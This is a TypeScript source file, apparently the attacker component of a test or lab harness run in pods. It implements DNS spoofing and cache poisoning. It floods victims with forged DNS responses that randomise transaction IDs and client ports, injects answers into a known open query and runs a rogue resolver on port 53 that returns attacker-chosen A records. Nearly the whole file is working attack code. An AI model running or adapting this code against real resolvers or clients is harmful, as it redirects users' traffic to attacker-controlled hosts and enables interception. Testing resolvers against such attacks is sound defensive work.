// EDGE: dgram, process
// What runs in an attacker's pod, and in the pods of those who ask: plain UDP sockets, no privilege.
// Usage: node attack-program.js '{"type":"attack",…}' or '{"type":"ask",…}'. It ends by itself.

import { createSocket, type Socket } from "node:dgram";
import { encode, type Packet } from "dns-packet";

export interface Attack {
  readonly type: "attack";
  readonly seconds: number;
  /** Whom answers are sent to that they have not asked for. */
  readonly victims: readonly string[];
  /** What the answers are about. */
  readonly names: readonly string[];
  /** What the victims dial: the answers give it other names. */
  readonly poison: readonly string[];
  /** A question that is open, or soon will be: of whom, from which port, with which id. */
  readonly known: { readonly address: string; readonly port: number; readonly id: number; readonly name: string };
}

export interface Ask {
  readonly type: "ask";
  readonly seconds: number;
  readonly everyMs: number;
  readonly server: string;
  readonly port: number;
  readonly id: number;
  readonly name: string;
}

const TICK_MS = 10;
const DNS = 53;
/** Ports that clients ask from: the kernel's own range. */
const PORTS = [32_768, 60_999] as const;
const FLAGS = { answer: 0x8180, truncated: 0x8380, failed: 0x8182, noSuchName: 0x8183 } as const;

function pick<T>(from: readonly T[]): T {
  const picked = from[Math.floor(Math.random() * from.length)];
  if (picked === undefined) throw new Error("nothing to pick from");
  return picked;
}

function query(id: number, name: string): Uint8Array {
  return encode({ type: "query", id, flags: 0x0100, questions: [{ type: "A", name }] });
}

function answer(id: number, name: string, poison: readonly string[], flags: number): Uint8Array {
  const isFailure = flags === FLAGS.failed || flags === FLAGS.noSuchName;
  const answers = isFailure ? [] : poison.map((data) => ({ type: "A" as const, name, ttl: 30, data }));
  const packet: Packet = { type: "response", id, flags: flags & 0x7fff, questions: [{ type: "A", name }], answers };
  return encode(packet);
}

async function socketOn(port: number): Promise<Socket> {
  const socket = createSocket("udp4");
  socket.on("error", () => undefined);
  await new Promise<void>((resolve) => socket.bind(port, resolve));
  return socket;
}

async function attack({ seconds, victims, names, poison, known }: Attack): Promise<void> {
  const resolver = await socketOn(DNS);
  const other = await socketOn(0);
  // It answers every query, like a DNS server.
  resolver.on("message", (message, { address, port }) => {
    if (message.length > 12 && (message[2] ?? 0) < 128) {
      const reply = answer(message.readUInt16BE(0), names[0] ?? "", poison.slice(0, 1), FLAGS.answer);
      resolver.send(reply, port, address);
    }
  });
  let ticks = 0;
  const timer = setInterval(() => {
    ticks++;
    const flags = pick(Object.values(FLAGS));
    const some = Array.from({ length: 8 }, () => pick(poison));
    const port = PORTS[0] + Math.floor(Math.random() * (PORTS[1] - PORTS[0]));
    const forged = answer(Math.floor(Math.random() * 65_536), pick(names), some, flags);
    pick([resolver, other]).send(forged, port, pick(victims));
    resolver.send(answer(known.id, known.name, some, flags), known.port, known.address);
    // A question put to who is no server stands open.
    if (ticks % 20 === 0) other.send(query(ticks & 0xffff, pick(names)), DNS, pick(victims));
  }, TICK_MS);
  console.log("attacking");
  setTimeout(() => {
    clearInterval(timer);
    resolver.close();
    other.close();
  }, seconds * 1000);
}

async function ask({ seconds, everyMs, server, port, id, name }: Ask): Promise<void> {
  const socket = await socketOn(port);
  const timer = setInterval(() => socket.send(query(id, name), DNS, server), everyMs);
  setTimeout(() => {
    clearInterval(timer);
    socket.close();
  }, seconds * 1000);
}

const command = JSON.parse(process.argv[2] ?? "null") as Attack | Ask | null;
if (command?.type === "attack") await attack(command);
if (command?.type === "ask") await ask(command);
